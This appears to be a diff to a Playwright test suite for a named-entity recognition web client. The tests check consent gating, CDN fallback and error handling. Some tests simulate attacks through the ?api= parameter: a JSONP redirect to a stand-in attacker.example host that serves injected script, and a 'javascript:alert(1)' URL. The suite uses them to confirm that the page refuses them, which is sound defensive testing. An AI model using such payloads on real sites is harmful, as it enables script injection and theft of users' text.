@@ -2,7 +2,7 @@
 
 The page is opened from a second local server, another origin than the API, so
 the calls are cross-origin for real. There is no internet: the page's jQuery
-CDN request is answered with the copy in tests/static (jQuery 3.7.1 as the CDN
+CDN request is answered with the copy in static/ (jQuery 3.7.1 as the CDN
 serves it; the page's integrity hash refuses any other bytes).
 """
 
@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import functools
 import http.server
+import json
 import re
 import shutil
 import socket
@@ -35,7 +36,7 @@ CHROMIUM_ARGS = [
     "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
     "--disable-sync", "--no-first-run",
 ]
-JQUERY = ROOT / "tests" / "static" / "jquery-3.7.1.min.js"
+JQUERY = ROOT / "static" / "jquery-3.7.1.min.js"
 
 
 @pytest.fixture(scope="session")
@@ -75,9 +76,18 @@ def page(browser: Browser) -> Iterator[Page]:
     page = context.new_page()
     errors: list[str] = []
     page.on("pageerror", lambda error: errors.append(str(error)))
+    # Whatever the pages' Content-Security-Policy refuses is an error too.
+    page.on("console", lambda message: errors.append(message.text)
+            if "Content Security Policy" in message.text else None)
     yield page
     context.close()
     assert not errors, errors
+
+
+def open_with_api(page: Page, page_url: str, api: str) -> None:
+    """The page at `page_url`, calling `api`, with the user's consent to send text there."""
+    page.goto(f"{page_url}?api={quote(api, safe='')}")
+    page.check("#trust-api")
 
 
 def find_entities(page: Page, text: str) -> None:
@@ -99,6 +109,9 @@ def test_the_page_from_another_origin_shows_entities(page, static_site, server):
     api = server.url + "/api"
     page.goto(f"{static_site}/simple_client.html?api={quote(api, safe='')}")
     expect(page.locator("#api-url")).to_have_text(api)
+    expect(page.locator("#submit")).to_be_disabled()  # until the user agrees to send text to that host
+    expect(page.locator("#consent")).to_contain_text(f"Send my text to {server.url.removeprefix('http://')}")
+    page.check("#trust-api")
     assert page.evaluate("window.location.origin") != server.url
     find_entities(page, "Angela Merkel visited Washington.")
     expect(page.locator("mark.ent-PER")).to_have_text("Angela Merkel")
@@ -155,14 +168,14 @@ def test_the_page_served_by_the_app_calls_its_own_origin(page, server):
 
 
 def test_an_api_error_is_shown(page, static_site, server):
-    page.goto(f"{static_site}/simple_client.html?api={quote(server.url + '/api', safe='')}")
+    open_with_api(page, f"{static_site}/simple_client.html", server.url + "/api")
     find_entities(page, "a" * 10_001)
     expect(page.locator("#error")).to_contain_text("Error 413: text has 10001 characters; at most 10000")
 
 
 def test_an_unreachable_api_is_shown(page, static_site):
     dead = f"http://127.0.0.1:{free_port()}/api"
-    page.goto(f"{static_site}/simple_client.html?api={quote(dead, safe='')}")
+    open_with_api(page, f"{static_site}/simple_client.html", dead)
     find_entities(page, "I love Paris")
     expect(page.locator("#error")).to_have_text(f"Could not reach the API at {dead} (no answer).")
 
@@ -173,10 +186,157 @@ def test_a_timeout_is_shown(page, static_site):
         silent.listen()
         api = f"http://127.0.0.1:{silent.getsockname()[1]}/api"
         page.clock.install()  # the page's 10 s timeout, fast-forwarded
-        page.goto(f"{static_site}/simple_client.html?api={quote(api, safe='')}")
+        open_with_api(page, f"{static_site}/simple_client.html", api)
         find_entities(page, "I love Paris")
         expect(page.locator("#status")).to_have_text("Working…")
         page.clock.run_for(10_001)
         expect(page.locator("#error")).to_have_text(
             "The API did not answer within 10 s. Try again or shorten the text."
         )
+
+
+# The page offline, after errors, and against a hostile ?api=.
+
+
+def test_the_page_works_when_the_jquery_cdn_cannot_be_reached(page, server):
+    page.context.unroute("https://code.jquery.com/**")
+    page.context.route("https://code.jquery.com/**", lambda route: route.abort())
+    with page.expect_request(server.url + "/static/jquery-3.7.1.min.js"):
+        page.goto(server.url + "/client")
+    find_entities(page, "I love Paris")
+    expect(page.locator("mark.ent-LOC")).to_have_text("Paris")
+    expect(page.locator("#error")).to_have_text("")
+
+
+def test_the_page_works_when_the_jquery_cdn_does_not_answer(page, server):
+    page.context.unroute("https://code.jquery.com/**")
+    page.context.route("https://code.jquery.com/**", lambda route: None)  # left hanging
+    page.clock.install()  # the page's wait for the CDN, fast-forwarded
+    page.goto(server.url + "/client", wait_until="domcontentloaded")  # "load" waits for the CDN too
+    with page.expect_request(server.url + "/static/jquery-3.7.1.min.js"):
+        page.clock.run_for(3001)
+    page.clock.resume()
+    find_entities(page, "I love Paris")
+    expect(page.locator("mark.ent-LOC")).to_have_text("Paris")
+
+
+def test_an_error_clears_the_previous_result(page, server):
+    page.goto(server.url + "/client")
+    find_entities(page, "I love Paris")
+    expect(page.locator("mark.ent-LOC")).to_have_text("Paris")
+    find_entities(page, "a" * 10_001)
+    expect(page.locator("#error")).to_contain_text("Error 413")
+    for element in ("#entities", "#input", "#output", "#status"):
+        assert text_content(page, element) == "", element
+    expect(page.locator("#submit")).to_be_enabled()
+
+
+def test_the_jsonp_attack_through_api_runs_no_script_and_sends_no_text(page, server):
+    # jQuery made a `<script>` load (JSONP) of a URL holding `=?`, with the text in it.
+    secret = "my secret text"
+    requests = []
+
+    def attacker(route: Route) -> None:
+        requests.append(route.request)
+        route.fulfill(body="window.attacked = true;", content_type="application/javascript")
+
+    page.context.route("http://attacker.example/**", attacker)
+    page.goto(server.url + "/client?api=" + quote("http://attacker.example/x.js?cb=?", safe=""))
+    expect(page.locator("#api-host")).to_have_text("attacker.example")  # the user sees where the text goes
+    expect(page.locator("#consent")).to_contain_text("Send my text to attacker.example")
+    page.fill("#text", secret)
+    page.locator("#submit").click(force=True)  # disabled: nothing happens
+    expect(page.locator("#status")).to_have_text("")
+    assert requests == [] and page.evaluate("window.attacked") is None
+
+    # Even with the user's consent, what comes back is read as data, never run.
+    page.check("#trust-api")
+    find_entities(page, secret)
+    expect(page.locator("#error")).to_contain_text("http://attacker.example/x.js?cb=? is not JSON")
+    assert page.evaluate("window.attacked") is None
+    assert requests and all(r.resource_type != "script" and secret not in r.url for r in requests)
+    expect(page.locator("#submit")).to_be_enabled()
+
+
+@pytest.mark.parametrize("api", ["javascript:alert(1)", "data:text/html,x", "/api", "ftp://example.com/api"])
+def test_an_api_that_is_not_an_http_url_is_refused(page, server, api):
+    page.goto(server.url + "/client?api=" + quote(api, safe=""))
+    expect(page.locator("#error")).to_have_text("?api= must be an http or https URL.")
+    expect(page.locator("#submit")).to_be_disabled()
+
+
+# What the real API never answers: an entity without a score, a result without
+# entities, an answer that is not JSON (sent as JSON all the same).
+FAKE_ANSWERS = {
+    "/null-score": {"input": "I love Paris", "output": "O O    B-LOC", "tokens": [], "tags": ["O", "O", "B-LOC"],
+                    "entities": [{"text": "Paris", "type": "LOC", "start": 7, "end": 12, "score": None}]},
+    "/broken": {"input": "I love Paris", "output": "O O    B-LOC", "entities": None},
+    "/not-json": "<html>",
+}
+
+
+class FakeApi(http.server.BaseHTTPRequestHandler):
+    """An API on another port that answers FAKE_ANSWERS[path]."""
+
+    def do_OPTIONS(self):
+        self.answer(b"")
+
+    def do_POST(self):
+        self.rfile.read(int(self.headers["Content-Length"]))
+        answer = FAKE_ANSWERS[self.path]
+        self.answer(answer.encode() if isinstance(answer, str) else json.dumps(answer).encode())
+
+    def answer(self, body: bytes) -> None:
+        self.send_response(200)
+        for name, value in (("Content-Type", "application/json"), ("Access-Control-Allow-Origin", "*"),
+                            ("Access-Control-Allow-Headers", "Content-Type"), ("Content-Length", str(len(body)))):
+            self.send_header(name, value)
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, *args):
+        pass
+
+
+@pytest.fixture(scope="module")
+def fake_api() -> Iterator[str]:
+    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), FakeApi)
+    threading.Thread(target=httpd.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{httpd.server_address[1]}"
+    httpd.shutdown()
+    httpd.server_close()
+
+
+def test_the_page_recovers_from_a_null_score_and_broken_answers(page, server, fake_api):
+    open_with_api(page, server.url + "/client", fake_api + "/null-score")
+    find_entities(page, "I love Paris")
+    expect(page.locator("mark.ent-LOC")).to_have_attribute("data-score", "?")
+    expect(page.locator("#status")).to_have_text("1 entities")
+    expect(page.locator("#submit")).to_be_enabled()
+
+    open_with_api(page, server.url + "/client", fake_api + "/broken")
+    find_entities(page, "I love Paris")
+    expect(page.locator("#error")).to_contain_text("The API's answer could not be shown")
+    expect(page.locator("#status")).to_have_text("")
+    assert text_content(page, "#entities") == ""
+    expect(page.locator("#submit")).to_be_enabled()
+
+    open_with_api(page, server.url + "/client", fake_api + "/not-json")
+    find_entities(page, "I love Paris")
+    expect(page.locator("#error")).to_have_text(f"The answer of the API at {fake_api}/not-json is not JSON (HTTP 200).")
+    expect(page.locator("#submit")).to_be_enabled()
+
+
+# The API reference.
+
+
+def test_docs_renders_and_its_try_it_tags_text(page, server):
+    page.goto(server.url + "/docs")
+    expect(page.locator(".swagger-ui .info .title")).to_contain_text("Named-entity recognition API")
+    operation = page.locator("#operations-default-tag")
+    operation.locator(".opblock-summary").click()
+    operation.locator("button.execute").click()
+    answer = operation.locator(".live-responses-table tr.response")
+    expect(answer.locator(".response-col_status")).to_have_text("200")
+    expect(answer.locator(".response-col_description")).to_contain_text('"entities"')
+    expect(answer.locator(".response-col_description")).to_contain_text('"text": "Paris"')
